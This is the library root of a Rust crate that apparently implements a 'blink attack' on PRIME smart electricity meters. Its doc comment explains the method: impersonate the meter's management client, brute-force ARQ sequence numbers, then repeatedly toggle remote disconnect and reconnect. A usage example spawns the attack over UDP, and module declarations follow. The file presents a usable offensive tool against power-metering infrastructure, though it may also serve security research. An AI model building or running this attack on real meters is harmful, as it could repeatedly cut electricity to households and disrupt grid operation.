//! Blink attack against PRIME service nodes
//!
//! The attack impersonates the management client of a meter on its PRIME
//! management connection: it scans ARQ sequence numbers with association
//! requests until the meter answers, then alternates `remote_disconnect` and
//! `remote_reconnect` calls on the disconnect control object, and releases
//! the association when the meter reports an error or the operator cancels.
//!
//! # Components
//! - **Composer**: builds the four outbound messages
//! - **Correlator**: filters inbound frames down to answers from the target
//! - **State machine**: the transition table driving the attack
//! - **Driver**: applies transitions, owns the timers and the transport
//! - **Lifecycle**: `start`, `cancel` and `end`
//! - **Handle**: runs the driver as a tokio task
//!
//! # Example
//! ```no_run
//! use prime_attack::{spawn, AttackEvent};
//! use prime_core::{AttackConfig, ConnId, NodeId};
//! use prime_transport::{UdpSettings, UdpTransport};
//!
//! # async fn example() -> prime_core::PrimeResult<()> {
//! let config = AttackConfig::new(
//!     "40:40:22:00:00:01".parse()?,
//!     NodeId::from_parts(1, 0x23)?,
//!     ConnId::new(0x102)?,
//! );
//! let transport = UdpTransport::bind(UdpSettings::new("127.0.0.1:4000".parse().unwrap())).await?;
//!
//! let mut attack = spawn(config, transport)?;
//! while let Some(event) = attack.next_event().await {
//!     if let AttackEvent::Status(text) = &event {
//!         println!("{}", text);
//!     }
//!     if event.is_terminal() {
//!         break;
//!     }
//! }
//! let report = attack.join().await?;
//! println!("{:?}", report.outcome);
//! # Ok(())
//! # }
//! ```

pub mod composer;
pub mod correlator;
pub mod driver;
pub mod event;
pub mod handle;
pub mod lifecycle;
pub mod sequence;
pub mod state;
pub mod statistics;
pub mod timer;

#[cfg(test)]
pub(crate) mod testing;

pub use composer::{FrameComposer, MessageKind, OutboundMessage, ENVELOPE_OVERHEAD, WINDOW_SIZE};
pub use correlator::{correlate, Correlated, Rejection};
pub use driver::BlinkAttack;
pub use event::AttackEvent;
pub use handle::{spawn, spawn_with_builder, AttackHandle, AttackOutcome, AttackReport, Command};
pub use sequence::{SeqNo, SequenceState};
pub use state::{transition, Action, AttackState, Event, ResponseClass, Transition, AARE_REJECTION_TEMPLATE};
pub use statistics::AttackStatistics;
pub use timer::{Deadline, ResendTimer};
